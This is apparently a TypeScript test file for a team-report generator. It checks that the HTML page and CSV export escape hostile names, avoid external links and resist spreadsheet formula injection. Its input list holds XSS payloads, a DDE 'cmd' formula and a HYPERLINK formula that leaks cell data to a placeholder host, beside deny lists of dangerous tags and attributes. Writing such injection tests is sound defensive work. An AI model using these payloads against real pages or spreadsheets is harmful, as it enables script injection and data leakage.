// The page and the table: nothing that comes from a file becomes markup or a formula, and nothing is asked of any other place.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { html } from "../../../../src/core/page/markup.ts";
import { mergePeople } from "../../../../src/core/teamReport/people.ts";
import { csvCell, teamCsv } from "../../../../src/core/teamReport/teamCsv.ts";
import { teamHtml } from "../../../../src/core/teamReport/teamHtml.ts";
import { teamReport, type TeamReport } from "../../../../src/core/teamReport/teamReport.ts";
import { locales } from "../../../../src/protocol/words.ts";
import { day, exportOf, graded, monday, tracks } from "./teams.ts";

/** What somebody might put in for a name or an id to get more than a name's place. */
const hostile = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "</title></style><svg onload=alert(1)>",
  "<!--",
  "]]>",
  "&lt;b&gt; &amp; &#60;",
  "`${alert(1)}`",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "＝1＋1",
  '=HYPERLINK("http://example.invalid?"&A1,"x")',
  "a,b;c\"d'e",
  "__proto__",
  "constructor",
  "🙂 z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔",
  "אבגד 123",
];

const report: TeamReport = teamReport(
  mergePeople(
    hostile.map((name, index) => ({
      file: name,
      exported: exportOf(
        name,
        monday + day,
        [monday + index, graded("sleep", index % 2 === 0, "stampede")],
        [monday + index, graded(`${name} lesson`, false, "never-settles")],
        [monday + index, graded(name, true)],
      ),
    })),
  ).people,
  tracks,
);

/** The page without what a reader reads: its tags. */
function tagsOf(page: string): readonly string[] {
  return page.match(/<[^>]*>/g) ?? [];
}

describe("the page", () => {
  for (const locale of locales) {
    it(`has only tags and attributes of its own, whatever people are called (${locale})`, () => {
      const tags = tagsOf(teamHtml(report, locale).replace(/<style>[\s\S]*?<\/style>/, ""));
      const names = new Set(tags.map((tag) => /^<[/!]?([\w-]+)/.exec(tag)?.[1] ?? tag));
      for (const name of ["script", "img", "b64", "iframe", "object", "link", "form", "!--"])
        assert.ok(!names.has(name), name);
      const attributes = tags.flatMap((tag) =>
        [...tag.replaceAll(/"[^"]*"/g, '""').matchAll(/\s([^\s=>/]+)/g)].map(([, name = ""]) => name),
      );
      const strange = attributes.filter(
        (name) => name.startsWith("on") || /^(?:src|style|srcdoc|formaction|ping)$/.test(name),
      );
      assert.deepEqual(strange, []);
      assert.ok(attributes.length > 500);
    });

    it(`names everybody in full (${locale})`, () => {
      const page = teamHtml(report, locale);
      const read = page.replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)));
      for (const name of hostile) assert.ok(read.includes(`<bdi>${name.normalize("NFC").trim()}</bdi>`), name);
    });
  }

  it("leads nowhere but to its own parts, and lets nothing in", () => {
    const page = teamHtml(report, "en");
    const places = [...page.matchAll(/(?:href|src|action|xlink:href)="([^"]*)"/g)].map(([, place = ""]) => place);
    assert.ok(places.length > 20);
    assert.deepEqual(
      places.filter((place) => !place.startsWith("#")),
      [],
    );
    const style = /<style>([\s\S]*?)<\/style>/.exec(page)?.[1] ?? "";
    assert.doesNotMatch(style, /@import|url\((?!#)/);
    assert.match(page, /Content-Security-Policy" content="default-src &#39;none&#39;;/);
  });

  it("speaks the language that it says it speaks", () => {
    assert.match(teamHtml(report, "zh-cn"), /<html lang="zh-CN">[\s\S]*谁学到哪里[\s\S]*叫得醒的 sleep[\s\S]*一拥而上/);
    assert.match(
      teamHtml(report, "en"),
      /<html lang="en">[\s\S]*Who is where[\s\S]*A sleep that can be woken[\s\S]*A stampede/,
    );
  });

  it("of people who have begun nothing says so", () => {
    const empty = teamReport(mergePeople([{ file: "a", exported: exportOf("Ada", monday) }]).people, tracks);
    for (const locale of locales) {
      const page = teamHtml(empty, locale);
      assert.match(page, locale === "en" ? /Nothing begun/ : /还没开始/);
      assert.doesNotMatch(page, /id="bugs"|NaN|undefined/);
      assert.equal(teamCsv(empty, locale).trimEnd().split("\r\n").length, 2);
    }
  });

  it("escapes by itself: text is text, markup is markup", () => {
    assert.equal(
      html`<i title="${'"<'}">${"a & b"}${html`<b>${3}</b>`}${[html`x`, html`y`]}</i>`.markup,
      '<i title="&#34;&#60;">a &#38; b<b>3</b>xy</i>',
    );
    assert.equal(html`${"\u0000\ud800"}`.markup, "\ufffd");
  });
});

describe("the table", () => {
  const parse = (csv: string): readonly (readonly string[])[] =>
    csv
      .slice(1)
      .split("\r\n")
      .slice(0, -1)
      .map((line) =>
        [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
          ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
        ),
      );

  for (const locale of locales) {
    it(`has a row for each person and lesson, none of whose cells is a formula (${locale})`, () => {
      const csv = teamCsv(report, locale);
      assert.equal(csv[0], "\ufeff");
      const rows = parse(csv);
      assert.equal(rows.length, 1 + 3 * hostile.length);
      for (const row of rows) {
        assert.equal(row.length, 14);
        for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/);
      }
      const people = new Set(rows.slice(1).map(([person = ""]) => person.replace(/^'/, "")));
      for (const name of hostile) assert.ok(people.has(name.normalize("NFC").replace(/^'/, "")), name);
    });
  }

  it("quotes what has to be quoted", () => {
    assert.equal(csvCell("plain"), "plain");
    assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
    assert.equal(csvCell("=1"), '"\'=1"');
    assert.equal(csvCell(" \t@x"), '"\' \t@x"');
    assert.equal(csvCell("a=1"), "a=1");
  });
});
